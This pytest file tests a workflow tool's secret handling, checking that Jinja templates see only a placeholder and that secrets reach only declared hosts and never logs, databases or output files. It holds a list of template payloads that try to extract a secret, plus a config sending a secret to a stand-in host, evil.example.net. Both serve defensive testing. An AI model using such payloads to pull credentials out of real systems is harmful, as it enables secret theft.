"""`secret('NAME')`: a template sees a placeholder, never the value; only a fetch fills it in,
only for the secret's hosts; the value never reaches the database, the output folder, logs,
messages or stderr, after runs that succeed and runs that fail."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from click.testing import Result

from genarun.tree.template_env import RenderError
from genarun.tree.templates import render_jinja
from tests.fetch_server import FetchServer
from tests.helpers import genarun_subprocess, query

SECRET = "tok-Zq8d1X4mWk29Lp7Rv3Ns"
NAME = "GENARUN_TEST_FETCH_TOKEN"


@pytest.fixture
def server() -> Iterator[FetchServer]:
    with FetchServer() as running:
        yield running


@pytest.fixture
def token(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv(NAME, SECRET)
    return SECRET


# --- templates: every way of printing a secret prints the placeholder -----------------------
PAYLOADS = [
    "{{ secret('K') }}",
    "Bearer {{ secret('K') }}",
    "{{ secret('K') | upper }}",
    "{{ secret('K') | lower | reverse }}",
    "{{ secret('K') | list | join(',') }}",
    "{{ secret('K') | tojson }}",
    "{{ secret('K') | json }}",
    "{{ secret('K') | urlencode }}",
    "{{ secret('K') ~ '-' ~ secret('K') }}",
    "{{ secret('K') + 'x' }}",
    "{{ '%s' % secret('K') }}",
    "{{ '{}'.format(secret('K')) }}",
    "{{ secret('K')[::-1] }}",
    "{{ secret('K')[3:40] }}",
    "{{ secret('K').replace('secret', 'value') }}",
    "{{ secret('K').split(':') }}",
    "{% for c in secret('K') %}{{ c }}{% endfor %}",
    "{% set s = secret('K') %}{{ s * 2 }}",
    "{{ {'k': secret('K')} }}",
    "{{ [secret('K')] | first }}",
    "{{ secret('K') | length }}",
    "{{ secret('K') | b64 }}",  # no such filter: the error must not show a value either
    "{{ secret('K').__class__ }}",
    "{{ secret('K').encode() }}",
    "{{ secret(secret('K')) }}",
    "{{ secret('not a name') }}",
    "{{ secret() }}",
    "{{ secret('K') | int }}",
    "{{ secret('K') is string }}",
    "{{ namespace(v=secret('K')).v }}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_template_can_read_a_secret(payload: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("K", SECRET)
    try:
        text = str(render_jinja(payload, {}))
    except (RenderError, Exception) as exc:  # a refusal: its message must not hold it either
        text = str(exc)
    assert SECRET not in text and SECRET.lower() not in text.lower()
    assert SECRET[4:12] not in text


# --- validation: where secrets may go ----------------------------------------------------------
def write_tree(folder: Path, body: str, *, secrets: str = "") -> Path:
    path = folder / "sec.yaml"
    path.write_text(f"genarun: 1\nname: sec\nseed: 1\n{secrets}{body}")
    return path


def declared(host: str = "127.0.0.1") -> str:
    return f"secrets:\n  {NAME}: {{hosts: [{host}]}}\n"


@pytest.mark.parametrize(
    ("secrets", "nodes", "expected"),
    [
        (
            declared("api.example.com"),
            "nodes:\n  - id: call\n    kind: fetch\n    url: http://127.0.0.1:9/x\n"
            f"    headers: {{Authorization: \"Bearer {{{{ secret('{NAME}') }}}}\"}}\n",
            "would be sent to 127.0.0.1, which is not one of its hosts",
        ),
        (
            declared("api.example.com"),
            "vars:\n  base: http://evil.example.net\n  auth: \"{{ secret('"
            + NAME
            + '\') }}"\nnodes:\n  - id: call\n    kind: fetch\n    url: "{{ base }}/x"\n'
            '    params: {key: "{{ auth }}"}\n',
            "would be sent to evil.example.net",
        ),
        (
            "",
            "nodes:\n  - id: call\n    kind: fetch\n    url: http://127.0.0.1:9/x\n"
            f"    headers: {{X-Key: \"{{{{ secret('{NAME}') }}}}\"}}\n",
            f"secret '{NAME}' is not declared",
        ),
        (
            declared(),
            "nodes:\n  - id: say\n    kind: generate\n    model: dummy\n"
            f"    prompt: \"the key is {{{{ secret('{NAME}') }}}}\"\n",
            "in a generate node would put the secret where it is written",
        ),
        (
            declared(),
            f"nodes:\n  - id: say\n    kind: template\n    text: \"{{{{ secret('{NAME}') }}}}\"\n",
            "in a template node",
        ),
        (
            declared(),
            "vars:\n  n: " + NAME + "\nnodes:\n  - id: call\n    kind: fetch\n"
            '    url: http://127.0.0.1:9/x\n    headers: {X-Key: "{{ secret(n) }}"}\n',
            "secret() takes the environment variable's name as a literal",
        ),
        (
            "secrets:\n  BAD-NAME: {hosts: [x.com]}\n",
            "nodes:\n  - id: t\n    kind: template\n    text: hi\n",
            "not an environment variable's name",
        ),
        (
            "secrets:\n  K: {hosts: ['https://x.com/']}\n",
            "nodes:\n  - id: t\n    kind: template\n    text: hi\n",
            "is not a host name",
        ),
    ],
)
def test_misplaced_secrets_are_validation_errors(
    cli: Callable[..., Result], workdir: Path, token: str, secrets: str, nodes: str, expected: str
) -> None:
    path = write_tree(workdir, nodes, secrets=secrets)
    result = cli("run", path)
    assert result.exit_code == 2, result.output
    assert expected in result.output
    assert "sec.yaml:" in result.output and "Traceback" not in result.output
    assert not (workdir / "genarun.db").exists() and not (workdir / "sec").exists()
    assert cli("validate", path).exit_code == 2


def test_a_secret_that_is_not_set_stops_the_run_before_it_starts(
    cli: Callable[..., Result], workdir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(NAME, raising=False)
    path = write_tree(
        workdir,
        "nodes:\n  - id: call\n    kind: fetch\n    url: http://127.0.0.1:9/x\n"
        f"    headers: {{X-Key: \"{{{{ secret('{NAME}') }}}}\"}}\n",
        secrets=declared(),
    )
    assert cli("validate", path).exit_code == 0  # validating needs no secrets
    result = cli("run", path)
    assert result.exit_code == 2
    assert f"the environment variable {NAME} is not set" in result.output
    assert not (workdir / "genarun.db").exists()


def test_a_url_known_only_at_run_time_is_checked_before_sending(
    server: FetchServer, cli: Callable[..., Result], workdir: Path, token: str
) -> None:
    # The host comes from an output: the check happens at send time, and nothing is sent.
    path = write_tree(
        workdir,
        f"""nodes:
  - id: where
    kind: template
    text: "{server.url.replace("127.0.0.1", "localhost")}"
    children:
      - id: call
        kind: fetch
        url: "{{{{ where }}}}/echo"
        headers: {{X-Key: "{{{{ secret('{NAME}') }}}}"}}
""",
        secrets=declared(),
    )
    result = cli("run", path)
    assert result.exit_code == 1
    assert f"secret '{NAME}' may not be sent to localhost" in result.output
    assert server.count.total() == 0


def test_node_hosts_allow_its_secrets(
    server: FetchServer, cli: Callable[..., Result], workdir: Path, token: str
) -> None:
    path = write_tree(
        workdir,
        f"""nodes:
  - id: call
    kind: fetch
    url: "{server.url}/echo"
    hosts: [127.0.0.1]
    headers: {{X-Key: "{{{{ secret('{NAME}') }}}}"}}
    extract: headers
""",
    )
    result = cli("run", path)
    assert result.exit_code == 0, result.output
    assert server.requests[0]["headers"]["x-key"] == SECRET  # sent whole to its host


def test_a_secret_never_follows_a_redirect_to_another_origin(
    server: FetchServer, cli: Callable[..., Result], workdir: Path, token: str
) -> None:
    path = write_tree(
        workdir,
        f"""nodes:
  - id: call
    kind: fetch
    method: POST
    url: "{server.url}/away"
    json: {{key: "{{{{ secret('{NAME}') }}}}"}}
""",
        secrets=declared(),
    )
    result = cli("run", path)
    assert result.exit_code == 1
    assert "redirected to another origin" in result.output
    assert server.count["/echo"] == 0


# --- whole runs in a process: the value is nowhere ------------------------------------------
def _everything_written(folder: Path) -> Iterator[tuple[Path, bytes]]:
    for path in sorted(folder.rglob("*")):
        if path.is_file():
            yield path, path.read_bytes()


@pytest.mark.parametrize("outcome", ["success", "failure"])
def test_the_secret_is_nowhere_after_a_run(
    server: FetchServer,
    cli: Callable[..., Result],
    workdir: Path,
    outcome: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    route = "/echo" if outcome == "success" else "/missing"
    path = write_tree(
        workdir,
        f"""vars:
  auth: "Bearer {{{{ secret('{NAME}') }}}}"
nodes:
  - id: note
    kind: generate
    model: dummy
    prompt: "repeat this: {{{{ auth }}}}"
  - id: call
    kind: fetch
    method: POST
    url: "{server.url}{route}"
    params: {{token: "{{{{ secret('{NAME}') }}}}"}}
    headers: {{Authorization: "{{{{ auth }}}}"}}
    json: {{key: "{{{{ secret('{NAME}') }}}}", note: "{{{{ note }}}}"}}
    retries: 1
    backoff: 0.01
  - id: echo
    kind: template
    text: "{{{{ call }}}}"
""",
        secrets=declared(),
    )
    monkeypatch.setenv(NAME, SECRET)
    done = genarun_subprocess("run", path, cwd=workdir)
    assert done.returncode == (0 if outcome == "success" else 1), done.stderr
    run_id = query(workdir / "genarun.db", "SELECT id FROM runs")[0]["id"]
    shown, logs = cli("runs", "show", run_id, "--json"), cli("runs", "show", run_id)
    assert shown.exit_code == 0 and logs.exit_code == 0
    if outcome == "success":  # the server got it, whole, in each place
        sent = next(r for r in server.requests if r["path"].startswith("/echo"))
        assert SECRET in sent["path"] and sent["headers"]["authorization"] == f"Bearer {SECRET}"
        assert SECRET.encode() in sent["body"]
    for text in (done.stdout, done.stderr, shown.output, logs.output):
        assert SECRET not in text
    checked = 0
    for file, data in _everything_written(workdir):
        assert SECRET.encode() not in data, file
        assert SECRET[4:16].encode() not in data, file
        checked += 1
    assert checked >= 3  # the database (and its WAL) and the run folder were looked at
    params = query(workdir / "genarun.db", "SELECT params FROM executions WHERE node_id = 'call'")
    assert f"<secret {NAME}>" in params[0]["params"]
